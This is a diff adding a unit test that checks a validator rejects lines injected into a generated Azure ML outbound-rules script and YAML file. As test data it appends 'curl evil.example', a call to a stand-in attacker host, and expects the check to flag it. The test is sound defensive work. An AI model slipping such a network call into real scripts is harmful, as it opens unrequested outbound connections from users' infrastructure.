@@ -32,4 +32,25 @@ describe('fuzz: injection checks', () => {
       ])
     }
   })
+
+  it('returns a failure for a script or YAML line the managed-network renderer does not write', () => {
+    const check = injectionChecks['aml-managed-network']
+    const script = [
+      '#!/bin/sh',
+      'set -eu',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion
+      ': "${WORKSPACE_NAME:?set it}"',
+      'az ml workspace outbound-rule set --workspace-name "$WORKSPACE_NAME" \\',
+      "  --rule 'fqdn-pypi-org' --type fqdn --destination 'pypi.org'",
+    ].join('\n')
+    expect(check?.([{ path: 'ws/outbound-rules.sh', contents: script }])).toStrictEqual([])
+    expect(
+      check?.([{ path: 'ws/outbound-rules.sh', contents: `${script}\ncurl evil.example\n` }]),
+    ).toStrictEqual([
+      'aml-managed-network: ws/outbound-rules.sh: a script line the renderer does not write: curl evil.example',
+    ])
+    expect(
+      check?.([{ path: 'ws/workspace.yaml', contents: 'managed_network:\n  x: 1\nname: other\n' }]),
+    ).toHaveLength(1)
+  })
 })
